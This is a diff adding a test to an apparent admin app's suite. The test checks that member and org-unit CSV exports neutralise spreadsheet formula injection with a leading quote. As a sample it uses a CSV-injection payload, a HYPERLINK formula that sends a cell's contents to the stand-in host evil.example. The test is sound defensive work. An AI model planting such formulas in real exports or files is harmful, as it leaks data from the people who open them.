@@ -69,3 +69,17 @@ test('an exported units file imports back unchanged', async () => {
   const result = await app.run('admin:commune', `mutation($input: CsvImportInput!) { importOrgUnits(input: $input) { rows created updated unchanged } }`, { input: { rootId: unit('commune'), csv: file.text } });
   expect(result).toEqual({ data: { importOrgUnits: { rows: 2, created: 0, updated: 0, unchanged: 2 } } });
 });
+
+// Issue #15: text a spreadsheet would run as a formula (=, +, -, @, tab, CR first) gets a leading quote.
+test('formula-like text is neutralised in both exports, and such a units file still imports back unchanged', async () => {
+  const address = '=HYPERLINK("http://evil.example/?"&A2,"Xem")';
+  await app.sql('update member set address = ? where id = ?', [address, app.fixture.members['Nguyễn Văn An'].id]);
+  await app.sql("update org_unit set name = '@SUM(1+1) Chi bộ', code = 'CODE-' || id where id = ?", [app.fixture.units.cell.id]);
+  const { accessToken } = await loginOverHttp(server, 'admin.commune');
+  const members = rowsOf((await download(`/export/members.csv?unitId=${unit('commune')}`, bearer(accessToken))).text);
+  expect(members.find((r) => r.fullName === 'Nguyễn Văn An')?.address).toBe(`'${address}`);
+  const units = await download(`/export/org-units.csv?unitId=${unit('commune')}`, bearer(accessToken));
+  expect(rowsOf(units.text).map((u) => u.name)).toContain("'@SUM(1+1) Chi bộ");
+  const result = await app.run('admin:commune', `mutation($input: CsvImportInput!) { importOrgUnits(input: $input) { rows created updated unchanged } }`, { input: { rootId: unit('commune'), csv: units.text } });
+  expect(result).toEqual({ data: { importOrgUnits: { rows: 2, created: 0, updated: 0, unchanged: 2 } } });
+});
